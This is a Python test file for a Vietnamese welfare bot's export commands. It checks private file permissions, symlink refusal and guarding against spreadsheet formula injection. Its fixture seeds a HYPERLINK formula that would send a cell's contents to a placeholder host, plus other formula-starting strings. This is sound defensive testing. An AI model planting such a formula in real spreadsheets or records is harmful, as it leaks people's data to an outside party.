"""Private exports: 0600 files beside the database, no XLSX to a terminal, formulas guarded.

Without `-o` an export goes to `exports/` beside the database, never the current folder, and
every spreadsheet cell is guarded wherever a formula could start.
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import pty
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from handlers.spreadsheet import safe_cell
from tests.handlers.test_exit_registration_helpers import submit
from tests.harness import Chat, FakeClock, new_app

ROOT = Path(__file__).resolve().parents[2]
INJECTED = 'Nguyễn;=HYPERLINK("http://x.example/?d="&A1,"bấm")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

pytestmark = pytest.mark.slow


def mode(path: Path) -> int:
    """The permission bits of `path`."""
    return stat.S_IMODE(os.lstat(path).st_mode)


def giamngheo(
    db: Path, *args: str, cwd: Path, **kwargs: object
) -> subprocess.CompletedProcess[bytes]:
    """Run the real command on `db` from `cwd` (output as bytes)."""
    options: dict[str, object] = {"capture_output": True, **kwargs}
    return subprocess.run(  # type: ignore[call-overload, no-any-return]
        [sys.executable, "-m", "bot", "--db", str(db), *args],
        cwd=cwd,
        timeout=60,
        check=False,
        env={"PATH": "/usr/bin:/bin", "DEMO_DATA": "0", "HOME": str(cwd), "PYTHONPATH": str(ROOT)},
        **options,
    )


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database with the demo ward, its gifts, one registration and one gift with an injection."""
    path = tmp_path_factory.mktemp("seeded") / "data" / "giamngheo.sqlite3"

    async def prepare() -> None:
        app = await new_app(path, FakeClock())
        try:
            await submit(Chat(app, "export-resident"))
        finally:
            await app.close()

    asyncio.run(prepare())
    conn = sqlite3.connect(path)
    try:
        conn.execute("UPDATE exit_registrations SET address = ?", (INJECTED,))
        conn.execute(
            "INSERT INTO donation_entries (campaign_id, ward_id, year, seq, receipt, kind,"
            " donor_type, donor_name, public, amount, method, reference, donated_on, note,"
            " reason, recorded_by, recorded_at)"
            " SELECT campaign_id, ward_id, year, seq + 1000, receipt || '-X', 'gift',"
            " donor_type, ?, public, amount, method, reference, donated_on, ?, reason,"
            " recorded_by, recorded_at FROM donation_entries WHERE kind = 'gift' LIMIT 1",
            (INJECTED, "quà\n@SUM(1)"),
        )
        conn.commit()
    finally:
        conn.close()
    return path


def test_registrations_export_without_o_goes_beside_the_database(
    seeded: Path, tmp_path: Path
) -> None:
    """No `-o`: the CSV is a 0600 file in `exports/` (0700) beside the database, said on stdout."""
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    done = giamngheo(seeded, "registrations", "export", "--ward", "20257", cwd=cwd)
    assert done.returncode == 0, done.stderr
    expected = seeded.parent / "exports" / "dang-ky-thoat-ngheo-20257.csv"
    assert expected.exists()
    assert mode(expected) == 0o600
    assert mode(expected.parent) == 0o700
    assert str(expected.resolve()) in done.stdout.decode()
    assert list(cwd.iterdir()) == []
    assert "TN-2026-000001" in expected.read_text(encoding="utf-8-sig")


def test_donations_export_without_o_goes_beside_the_database(seeded: Path, tmp_path: Path) -> None:
    """No `-o`: the ledger CSV lands in `exports/` as 0600, nothing on stdout or in the folder."""
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    done = giamngheo(seeded, "donations", "export", "--ward", "20257", cwd=cwd)
    assert done.returncode == 0, done.stderr
    assert done.stdout == b""
    written = sorted((seeded.parent / "exports").glob("so-thu-20257-*.csv"))
    assert len(written) == 1
    assert mode(written[0]) == 0o600
    assert str(written[0].resolve()) in done.stderr.decode()
    assert list(cwd.iterdir()) == []


def test_export_with_o_is_private_and_refuses_a_link(seeded: Path, tmp_path: Path) -> None:
    """`-o FILE` writes 0600 under umask 000; `-o LINK` exits 2 and writes through nothing."""
    out = tmp_path / "ds.xlsx"
    done = giamngheo(
        seeded,
        "registrations",
        "export",
        "--ward",
        "20257",
        "--format",
        "xlsx",
        "-o",
        str(out),
        cwd=tmp_path,
        preexec_fn=lambda: os.umask(0),
    )
    assert done.returncode == 0, done.stderr
    assert mode(out) == 0o600
    link = tmp_path / "link.csv"
    link.symlink_to(tmp_path / "nowhere.csv")
    for command in (("registrations", "export", "--ward", "20257"), ("donations", "export")):
        refused = giamngheo(seeded, *command, "-o", str(link), cwd=tmp_path)
        assert refused.returncode == 2
        assert "symbolic link" in refused.stderr.decode()
        assert not (tmp_path / "nowhere.csv").exists()


def test_xlsx_to_a_terminal_is_refused(seeded: Path, tmp_path: Path) -> None:
    """`donations export --format xlsx -o -` with a terminal on stdout: exit 2, no binary shown."""
    leader, follower = pty.openpty()
    try:
        done = giamngheo(
            seeded,
            "donations",
            "export",
            "--format",
            "xlsx",
            "-o",
            "-",
            cwd=tmp_path,
            capture_output=False,
            stdout=follower,
            stderr=subprocess.PIPE,
        )
        os.close(follower)
        follower = -1
        shown = b""
        while True:
            try:
                chunk = os.read(leader, 4096)
            except OSError:  # the terminal closed (EIO on Linux)
                break
            if not chunk:
                break
            shown += chunk
    finally:
        if follower != -1:
            os.close(follower)
        os.close(leader)
    assert done.returncode == 2
    assert b"PK" not in shown
    assert "terminal" in done.stderr.decode()
    assert list((seeded.parent / "exports").glob("*.xlsx")) == []


def test_xlsx_to_a_pipe_is_written(seeded: Path, tmp_path: Path) -> None:
    """`donations export --format xlsx -o -` into a pipe writes the workbook."""
    done = giamngheo(seeded, "donations", "export", "--format", "xlsx", "-o", "-", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith(b"PK")
    sheet = load_workbook(io.BytesIO(done.stdout)).active
    assert sheet is not None
    assert len(list(sheet.iter_rows())) > 1


def formula_like(cells: list[str]) -> list[str]:
    """The cells a spreadsheet would run as a formula."""
    return [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("command", ["registrations", "donations"])
def test_csv_split_on_any_separator_holds_no_formula(
    seeded: Path, tmp_path: Path, command: str
) -> None:
    """The CSV read with `,` or with `;` (Vietnamese Excel) yields no cell starting a formula."""
    out = tmp_path / f"{command}.csv"
    extra = ("--ward", "20257") if command == "registrations" else ()
    done = giamngheo(seeded, command, "export", *extra, "-o", str(out), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    text = out.read_text(encoding="utf-8-sig")
    assert "HYPERLINK" in text
    for delimiter in (",", ";", "\t"):
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
        assert formula_like(cells) == [], delimiter
    naive = [piece for line in text.splitlines() for piece in line.replace(";", ",").split(",")]
    assert formula_like([piece.strip('"') for piece in naive]) == []


@pytest.mark.parametrize("command", ["registrations", "donations"])
def test_xlsx_cells_hold_no_formula(seeded: Path, tmp_path: Path, command: str) -> None:
    """In the XLSX no cell is a formula, and the injected text is kept, guarded."""
    out = tmp_path / f"{command}.xlsx"
    extra = ("--ward", "20257") if command == "registrations" else ()
    done = giamngheo(
        seeded, command, "export", *extra, "--format", "xlsx", "-o", str(out), cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    sheet = load_workbook(out).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [str(cell.value) for cell in cells if isinstance(cell.value, str)]
    assert safe_cell(INJECTED) in values
    for value in values:
        pieces = [p for part in value.split(";") for p in part.split(",")]
        assert formula_like(pieces) == [], value


@pytest.mark.parametrize(
    ("raw", "guarded"),
    [
        ("Nguyễn;=HYPERLINK(1)", "Nguyễn;'=HYPERLINK(1)"),
        ("=1+1", "'=1+1"),
        ("+84 905 123 456", "'+84 905 123 456"),
        ("a, -5", "a, '-5"),
        ("x\t@SUM(1)", "x\t'@SUM(1)"),
        ("dòng 1\n=A1", "dòng 1\n'=A1"),
        ("\t=1", "'\t'=1"),
        ("  =1", "'  =1"),
        ("Hộ A - B", "Hộ A - B"),
        ("2026-12-01", "2026-12-01"),
        ("Nguyễn Văn An", "Nguyễn Văn An"),
    ],
)
def test_safe_cell(raw: str, guarded: str) -> None:
    """The guard puts an apostrophe before each place a formula could start, and nowhere else."""
    assert safe_cell(raw) == guarded


def test_safe_cell_keeps_numbers() -> None:
    """Numbers (negative amounts of reversals too) pass unchanged."""
    assert safe_cell(-50_000) == -50_000
